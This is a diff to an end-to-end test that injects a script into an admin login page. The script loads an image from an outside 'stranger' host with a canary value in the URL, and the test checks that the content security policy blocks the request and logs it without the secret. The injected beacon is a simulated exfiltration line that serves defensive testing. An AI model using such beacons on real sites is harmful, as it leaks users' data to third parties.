@@ -2,9 +2,8 @@
 
 from __future__ import annotations
 
-import time
-
 from tests.e2e.conftest import OpenContext
+from tests.e2e.rest import until
 from tests.e2e.site import Site
 from tests.e2e.watch import Watch
 
@@ -14,7 +13,6 @@ INJECTED = f"""() => {{
   picture.src = "https://{STRANGER}/a-customers-secret.png?of=canary";
   document.body.append(picture);
 }}"""
-PATIENCE_SECONDS = 15.0
 
 
 def test_what_the_policy_keeps_out_is_reported_and_logged_without_its_address(
@@ -24,8 +22,5 @@ def test_what_the_policy_keeps_out_is_reported_and_logged_without_its_address(
     page = open_context().new_page()
     page.goto(f"{site.url}/admin/login/")
     page.evaluate(INJECTED)
-    deadline = time.monotonic() + PATIENCE_SECONDS
-    while f"The content policy kept {STRANGER} out (img-src)" not in site.output():
-        assert time.monotonic() < deadline, site.output()[-2000:]
-        page.wait_for_timeout(100)
+    until(lambda: f"The content policy kept {STRANGER} out (img-src)" in site.output())
     assert "canary" not in site.output()
